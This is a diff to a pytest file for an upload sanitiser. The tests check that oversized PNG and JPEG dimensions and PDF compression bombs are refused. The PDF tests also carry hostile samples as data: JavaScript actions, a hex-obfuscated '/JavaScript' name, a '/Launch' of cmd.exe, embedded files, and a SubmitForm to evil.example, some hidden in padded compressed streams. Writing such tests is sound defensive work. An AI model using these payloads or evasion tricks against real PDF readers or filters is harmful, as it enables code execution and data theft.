@@ -3,10 +3,21 @@
 from __future__ import annotations
 
 import struct
+import zlib
 
 import pytest
 
-from receiver.cases.rules import MediaType, PictureBroken, WrongFile, harmless, media_type_of
+from receiver.cases.rules import (
+    MediaType,
+    PdfActs,
+    PdfLocked,
+    PictureBroken,
+    PictureTooLarge,
+    WrongFile,
+    harmless,
+    media_type_of,
+    pdfs,
+)
 from tests.factories.cases import A_PDF, a_png
 
 JFIF = b"\xff\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
@@ -108,3 +119,92 @@ class TestJpeg:
     def test_something_between_segments_is_refused(self):
         with pytest.raises(PictureBroken):
             harmless(MediaType.JPEG, b"\xff\xd8\x00\xe0\x00\x02" + SCAN)
+
+
+class TestPoints:
+    """What a picture says of its size, before anybody draws it."""
+
+    def png(self, width, height):
+        head = struct.pack(">II", 1, 1)
+        return a_png().replace(head, struct.pack(">II", width, height), 1)
+
+    def frame(self, width, height, mark=0xC0):
+        return segment(mark, struct.pack(">BHHB", 8, height, width, 1) + b"\1\x11\0")
+
+    @pytest.mark.parametrize(("width", "height"), [(50_000, 50_000), (2**31 - 1, 1), (1, 2**32 - 1)])
+    def test_a_huge_png_is_refused(self, width, height):
+        with pytest.raises(PictureTooLarge):
+            harmless(MediaType.PNG, self.png(width, height))
+
+    @pytest.mark.parametrize("mark", [0xC0, 0xC1, 0xC2, 0xCF])
+    def test_a_huge_jpeg_is_refused(self, mark):
+        with pytest.raises(PictureTooLarge):
+            harmless(MediaType.JPEG, jpeg(JFIF, self.frame(65_535, 65_535, mark)))
+
+    def test_what_a_camera_takes_is_kept(self):
+        picture = jpeg(JFIF, segment(0xC4, b"\xff" * 20), self.frame(12_000, 8_000))
+        assert harmless(MediaType.JPEG, picture) == picture
+        assert harmless(MediaType.PNG, self.png(4_000, 3_000))
+
+
+def pdf(body):
+    return b"%PDF-1.7\n1 0 obj\n" + body + b"\nendobj\ntrailer<<>>\n%%EOF\n"
+
+
+def packed(content, names=b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", pack=zlib.compress):
+    return pdf(b"<< " + names + b" >>\nstream\n" + pack(content) + b"\nendstream")
+
+
+SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
+
+
+class TestPdf:
+    @pytest.mark.parametrize(
+        "body",
+        [
+            SCRIPT,
+            b"<</S/JavaScript/JS(x)>>",
+            b"<< /S /#4aava#53cript /JS 2 0 R >>",
+            b"<< /S /Launch /F (cmd.exe) >>",
+            b"<< /Names << /EmbeddedFiles 3 0 R >> >>",
+            b"<< /Type /EmbeddedFile >>",
+            b"<< /Subtype /RichMedia >>",
+            b"<< /S /SubmitForm /F (http://evil.example) >>",
+        ],
+    )
+    def test_one_that_acts_is_refused(self, body):
+        for data in (pdf(body), packed(b"1 0 " + body), packed(b" " * 1_048_570 + body), packed(body, names=b"")):
+            with pytest.raises(PdfActs):
+                harmless(MediaType.PDF, data)
+
+    @pytest.mark.parametrize(
+        "data",
+        [
+            pdf(b"<< /OpenAction [2 0 R /Fit] /JavaScripts (JavaScript) >>"),
+            packed(b"1 0 << /Type /Page >>"),
+            packed(b"\xff\xd8 a picture", names=b"/Filter /DCTDecode", pack=bytes),
+            packed(b"q 1 0 0 1 0 0 cm", names=b"/Length 16", pack=bytes),
+            packed(b"x" * 3_000_000, names=b"/Filter /FlateDecode"),
+            packed(bytes(range(256)) * 5_000, names=b"", pack=lambda content: zlib.compress(content, 0)),
+            pdf(b"<<>> stream\n"),
+        ],
+    )
+    def test_one_that_shows_pages_is_kept(self, data):
+        assert harmless(MediaType.PDF, data) == data
+
+    @pytest.mark.parametrize(
+        "data",
+        [
+            pdf(b"<< /Encrypt 5 0 R >>"),
+            packed(b"80 0B 60 50", names=b"/Type /ObjStm /Filter /LZWDecode", pack=bytes),
+            packed(b"1 0 " + SCRIPT, pack=lambda content: zlib.compress(content)[:-6] + b"broken"),
+        ],
+    )
+    def test_one_that_cannot_be_looked_through_is_refused(self, data):
+        with pytest.raises(PdfLocked):
+            harmless(MediaType.PDF, data)
+
+    def test_a_bomb_is_refused(self, monkeypatch):
+        monkeypatch.setattr(pdfs, "MOST_UNPACKED", 1_000_000)
+        with pytest.raises(PdfLocked):
+            harmless(MediaType.PDF, packed(b"\0" * 3_000_000))
